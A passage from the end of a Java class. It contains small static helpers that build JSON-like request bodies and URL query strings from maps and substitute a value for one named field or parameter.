            };
            if (fits && template.containsKey(component.getName())) {
                return component.getName();
            }
        }
        return null;
    }

    private static String json(Map<String, Object> fields, String replaced, String value) {
        Map<String, Object> body = new LinkedHashMap<>(fields);
        if (replaced != null) {
            body.put(replaced, value);
        }
        return body.entrySet().stream().map(e -> "\"" + e.getKey() + "\": " + e.getValue()).collect(Collectors.joining(", ", "{", "}"));
    }

    private static String queryString(Map<String, String> query) {
        return query.isEmpty() ? "" : query.entrySet().stream().map(e -> e.getKey() + "=" + e.getValue()).collect(Collectors.joining("&", "?", ""));
    }

    private static Map<String, String> with(Map<String, String> query, String name, String value) {
        Map<String, String> changed = new LinkedHashMap<>(query);
        changed.put(name, value);
        return changed;
    }

    private static Map<String, String> mapOf(String name, String value) {
        Map<String, String> map = new LinkedHashMap<>();
        map.put(name, value);
        return map;
    }
}
